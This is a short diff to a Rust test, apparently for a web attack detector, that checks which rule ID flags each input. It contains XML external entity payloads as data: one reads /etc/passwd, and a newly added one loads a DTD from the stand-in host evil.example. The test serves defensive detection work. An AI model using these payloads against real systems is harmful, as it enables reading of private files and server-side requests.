@@ -93,8 +93,9 @@ fn kinds_of_attacks_are_found() {
                 "text/xml",
                 "<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>",
             ),
-            1_006_010,
+            1_006_013,
         ),
+        (value("<!DOCTYPE a SYSTEM 'http://evil.example/x.dtd'>"), 1_006_010),
         (
             Sent::post(
                 "/",
